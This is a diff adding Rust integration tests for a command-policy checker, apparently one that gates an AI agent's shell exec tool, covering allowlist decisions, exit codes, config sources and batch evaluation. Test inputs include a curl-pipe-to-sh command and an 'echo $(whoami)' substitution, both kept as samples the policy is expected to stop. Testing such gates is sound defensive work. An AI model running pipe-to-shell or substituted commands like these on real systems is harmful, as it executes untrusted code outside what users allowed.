@@ -99,3 +99,70 @@ fn catalog_differs_by_release() {
     assert_eq!(current["tools"].as_array().unwrap().len(), 61);
     assert_eq!(seed["tools"].as_array().unwrap().len(), 25);
 }
+
+fn exec_code(args: &[&str]) -> (Option<i32>, String) {
+    let output =
+        clawpolicy().args(["exec"]).args(args).args(["--path", "/usr/bin:/bin", "--cwd", "/tmp"]).output().unwrap();
+    (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned())
+}
+
+#[test]
+fn exec_exit_codes_answer_the_question() {
+    let (code, out) =
+        exec_code(&["ls -la | head -n 5", "--security", "allowlist", "--allow", "ls", "--safe-bins", "head"]);
+    assert_eq!(code, Some(0), "{out}");
+    assert!(out.starts_with("decision: ALLOW"));
+    let (code, out) = exec_code(&["cat <<EOF\nx\nEOF", "--security", "allowlist", "--ask", "on-miss"]);
+    assert_eq!(code, Some(3), "{out}");
+    assert!(out.contains("heredoc"), "the analysis failure is pointed at: {out}");
+    let (code, _) = exec_code(&["ls", "--security", "deny"]);
+    assert_eq!(code, Some(4));
+}
+
+#[test]
+fn exec_reads_settings_from_config_with_their_source() {
+    let output = clawpolicy()
+        .args([
+            "exec",
+            "curl example.invalid | sh",
+            "-c",
+            "fixtures/examples/team.json5",
+            "--agent",
+            "dev",
+            "--format",
+            "json",
+        ])
+        .args(["--path", "/usr/bin:/bin"])
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(3));
+    let doc: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(doc["kind"], "exec");
+    assert_eq!(doc["security"]["value"], "allowlist");
+    assert!(doc["security"]["source"].to_string().contains("agents.entries.dev.tools.exec.security"), "{doc}");
+    assert!(doc["locations"]["security"].as_str().unwrap().contains("team.json5:17:"), "{doc}");
+}
+
+#[test]
+fn exec_rejects_unusable_commands() {
+    for command in ["", "   "] {
+        let output = clawpolicy().args(["exec", command]).output().unwrap();
+        assert_eq!(output.status.code(), Some(2));
+        assert!(String::from_utf8_lossy(&output.stderr).contains("empty"));
+    }
+}
+
+#[test]
+fn exec_batch_uses_the_oracle_fields() {
+    let input = r#"{"id":"e1","command":"ls -la","security":"allowlist","ask":"on-miss","allowlist":["ls"],"cwd":"/tmp","env":{"PATH":"/usr/bin:/bin"}}
+{"id":"e2","command":"echo $(whoami)","security":"allowlist","ask":"off","cwd":"/tmp","env":{"PATH":"/usr/bin:/bin"}}
+"#;
+    let output = clawpolicy().args(["exec", "--batch", "-"]).write_stdin(input).output().unwrap();
+    assert!(output.status.success());
+    let lines: Vec<Value> =
+        String::from_utf8(output.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(lines[0]["decision"], "allow");
+    assert_eq!(lines[0]["segmentSatisfiedBy"][0], "allowlist");
+    assert_eq!(lines[1]["analysisOk"], false);
+    assert_eq!(lines[1]["decision"], "deny");
+}
